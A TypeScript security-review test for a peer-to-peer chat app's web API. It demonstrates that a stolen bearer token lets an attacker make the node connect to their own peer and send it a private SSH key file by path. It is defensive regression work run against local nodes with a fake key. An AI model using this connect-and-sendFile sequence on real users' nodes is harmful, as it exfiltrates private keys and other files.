/**
 * Security review PoC (web face, what the token is worth): POST /api/command
 * forwards every ChatApi command (src/web/server.ts:136-140), including
 * `connect` to any multiaddr and `sendFile` with a path on the node's file
 * system, although the page uses neither (it has no files yet). So the
 * bearer token is not only "the key to the account" (README) but read
 * access to every file the user can read: whoever gets it (see
 * review-cookie-port.test.ts) connects the node to their own peer and has
 * it send them ~/.ssh/id_ed25519. The REPL user can do the same, but the
 * REPL is not a bearer credential that travels over HTTP.
 *
 * Real nodes: alice with `--web` (opened by the CLI), mallory's own node;
 * only HTTP with alice's token, as a process that stole it would. Fails
 * while the web face forwards `sendFile` with a server-side path.
 */
import assert from 'node:assert/strict'
import { readFile, writeFile } from 'node:fs/promises'
import { request } from 'node:http'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { TOKEN_HEADER } from '../../src/web/guard.ts'
import { is } from '../helpers/events.ts'
import type { ChatEvent, Matcher } from '../helpers/events.ts'
import { spawnChat } from '../helpers/process.ts'
import { tempDir } from '../helpers/tmp.ts'

/** An event the helper's types do not list (offer, file), by its fields */
function raw (type: string, fields: Record<string, unknown> = {}): Matcher {
  const match = (event: ChatEvent): event is ChatEvent => {
    const record = event as unknown as Record<string, unknown>
    return record.type === type && Object.entries(fields).every(([k, v]) => record[k] === v)
  }
  return Object.assign(match, { description: JSON.stringify({ type, ...fields }) })
}

interface Answer { status: number, body: { result?: Record<string, unknown>, error?: { code: string, message: string } } }

async function command (url: string, body: unknown): Promise<Answer> {
  const u = new URL(url)
  const headers = { [TOKEN_HEADER]: new URLSearchParams(u.hash.slice(1)).get('token') ?? '', origin: u.origin, 'content-type': 'application/json' }
  return new Promise((resolve, reject) => {
    const req = request({ host: u.hostname, port: u.port, method: 'POST', path: '/api/command', headers }, res => {
      const chunks: Buffer[] = []
      res.on('data', (c: Buffer) => chunks.push(c))
      res.on('end', () => { resolve({ status: res.statusCode ?? 0, body: JSON.parse(Buffer.concat(chunks).toString()) as Answer['body'] }) })
    })
    req.on('error', reject)
    req.end(JSON.stringify(body))
  })
}

void describe('review: what the web token can do', () => {
  void it('the web API does not send a file named by a path on this machine', async (t) => {
    const home = await tempDir(t)
    const secret = join(home, 'id_ed25519')
    await writeFile(secret, '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 })
    const loot = await tempDir(t)
    const alice = spawnChat({ name: 'alice', dataDir: await tempDir(t), host: '127.0.0.1', args: ['--no-mdns', '--web-port', '0'], env: { SECURECHAT_PASSPHRASE: 'amber falcon drinks cold river tea' }, t })
    const mallory = spawnChat({ name: 'mallory', dataDir: await tempDir(t), host: '127.0.0.1', args: ['--no-mdns', '--downloads', loot], t })
    const web = await alice.waitFor(is('web'), { timeout: 60_000 })
    await alice.waitFor(is('ready'), { timeout: 60_000 })
    const malloryReady = await mallory.waitFor(is('ready'), { timeout: 60_000 })

    // with nothing but the token
    const connected = await command(web.url, { type: 'connect', multiaddr: malloryReady.addrs[0] })
    assert.equal(connected.status, 200)
    const sent = await command(web.url, { type: 'sendFile', peer: malloryReady.peerId, path: secret })
    if (sent.status === 200) {
      const offer = await mallory.waitFor(raw('offer'), { timeout: 30_000 }) as unknown as { id: string }
      mallory.send(`/accept-file ${offer.id}`)
      const done = await mallory.waitFor(raw('file', { status: 'complete' }), { timeout: 30_000 }) as unknown as { path: string }
      const stolen = await readFile(done.path, 'utf8')
      assert.fail(`the token sent ${secret} to the attacker's peer, who saved it as ${done.path}:\n${stolen}`)
    }
  })
})
